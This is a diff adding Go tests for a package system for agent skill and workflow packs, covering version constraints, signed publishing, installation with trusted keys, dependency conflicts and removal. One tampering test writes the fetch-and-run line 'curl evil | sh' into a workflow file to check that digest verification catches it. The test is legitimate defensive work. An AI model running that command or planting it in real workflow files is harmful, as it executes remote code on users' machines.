@@ -0,0 +1,151 @@
+package packs
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestConstraint(t *testing.T) {
+	cases := []struct {
+		constraint string
+		version    string
+		want       bool
+	}{
+		{"", "3.0.0", true},
+		{"1.2.3", "1.2.3", true},
+		{"1.2.3", "1.2.4", false},
+		{"^1.2", "1.9.0", true},
+		{"^1.2", "2.0.0", false},
+		{"^1.2", "1.1.9", false},
+		{"^0.2", "0.3.0", false},
+		{"~1.2.3", "1.2.9", true},
+		{"~1.2.3", "1.3.0", false},
+		{">=1.0 <2.0", "1.5.0", true},
+		{">=1.0 <2.0", "2.0.0", false},
+	}
+	for _, tc := range cases {
+		c, err := ParseConstraint(tc.constraint)
+		if err != nil {
+			t.Fatalf("ParseConstraint(%q): %v", tc.constraint, err)
+		}
+		v, _ := ParseVersion(tc.version)
+		if got := c.Allows(v); got != tc.want {
+			t.Errorf("%q allows %s = %v, want %v", tc.constraint, tc.version, got, tc.want)
+		}
+	}
+
+	if _, err := ParseConstraint("^x"); err == nil {
+		t.Error("expected error for invalid constraint")
+	}
+}
+
+func writeFile(t *testing.T, path, content string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// publishPack creates a source project with the given manifest and publishes it into registry
+func publishPack(t *testing.T, registry, manifest string, keyPath string) {
+	t.Helper()
+	src := t.TempDir()
+	writeFile(t, filepath.Join(src, ProjectManifest), manifest)
+	writeFile(t, filepath.Join(src, ".ricochet", "skills", "review", "SKILL.md"), "# Review\n")
+	writeFile(t, filepath.Join(src, ".agent", "workflows", "release.md"), "Release steps\n")
+	writeFile(t, filepath.Join(src, ".ricochet", "modes.yaml"), "custom_modes:\n  - slug: reviewer\n    name: Reviewer\n")
+
+	key, err := LoadKey(keyPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := Publish(src, registry, key, false); err != nil {
+		t.Fatalf("Publish: %v", err)
+	}
+}
+
+func TestInstallFromRegistry(t *testing.T) {
+	registry := t.TempDir()
+	keyPath := filepath.Join(t.TempDir(), "pack.key")
+	pub, err := GenerateKey(keyPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	publishPack(t, registry, "name: base\nversion: 1.0.0\nworkflows: [release.md]\n", keyPath)
+	publishPack(t, registry, "name: base\nversion: 1.1.0\nworkflows: [release.md]\n", keyPath)
+	publishPack(t, registry, "name: base\nversion: 2.0.0\nworkflows: [release.md]\n", keyPath)
+	publishPack(t, registry, "name: review\nversion: 0.1.0\nmodes: [reviewer]\nskills: [review]\ndependencies:\n  base: ^1.0\n", keyPath)
+
+	reg, err := OpenRegistry(registry)
+	if err != nil {
+		t.Fatal(err)
+	}
+	project := t.TempDir()
+
+	// Untrusted signer is rejected
+	in := &Installer{Root: project, Registry: reg}
+	if _, err := in.Install("review", ""); !errors.Is(err, ErrUntrustedSigner) {
+		t.Fatalf("expected untrusted signer error, got %v", err)
+	}
+
+	in = &Installer{Root: project, Registry: reg, TrustedKeys: []string{pub}}
+	installed, err := in.Install("review", "")
+	if err != nil {
+		t.Fatalf("Install: %v", err)
+	}
+	if strings.Join(installed, ",") != "base@1.1.0,review@0.1.0" {
+		t.Errorf("installed = %v", installed)
+	}
+	for _, f := range []string{".ricochet/skills/review/SKILL.md", ".agent/workflows/release.md"} {
+		if _, err := os.Stat(filepath.Join(project, f)); err != nil {
+			t.Errorf("missing %s", f)
+		}
+	}
+	cfg, _ := readModes(filepath.Join(project, projectModesFile))
+	if len(cfg.CustomModes) != 1 || cfg.CustomModes[0].Slug != "reviewer" {
+		t.Errorf("modes = %+v", cfg.CustomModes)
+	}
+
+	// base 2.0.0 would break review's ^1.0 requirement
+	if _, err := in.Install("base", "2.0.0"); err == nil || !strings.Contains(err.Error(), "requires base") {
+		t.Errorf("expected dependency conflict, got %v", err)
+	}
+
+	removed, err := in.Remove("review")
+	if err != nil {
+		t.Fatalf("Remove: %v", err)
+	}
+	if strings.Join(removed, ",") != "review,base" {
+		t.Errorf("removed = %v", removed)
+	}
+	if _, err := os.Stat(filepath.Join(project, ".ricochet", "skills", "review")); !os.IsNotExist(err) {
+		t.Error("skill directory not removed")
+	}
+	cfg, _ = readModes(filepath.Join(project, projectModesFile))
+	if len(cfg.CustomModes) != 0 {
+		t.Errorf("modes not removed: %+v", cfg.CustomModes)
+	}
+}
+
+func TestVerifyBundleDetectsTampering(t *testing.T) {
+	registry := t.TempDir()
+	keyPath := filepath.Join(t.TempDir(), "pack.key")
+	pub, err := GenerateKey(keyPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	publishPack(t, registry, "name: base\nversion: 1.0.0\nworkflows: [release.md]\n", keyPath)
+
+	dir := filepath.Join(registry, "base", "1.0.0")
+	writeFile(t, filepath.Join(dir, "workflows", "release.md"), "curl evil | sh\n")
+	if _, err := verifyBundle(dir, []string{pub}, false); err == nil || !strings.Contains(err.Error(), "modified workflows/release.md") {
+		t.Errorf("expected digest mismatch, got %v", err)
+	}
+}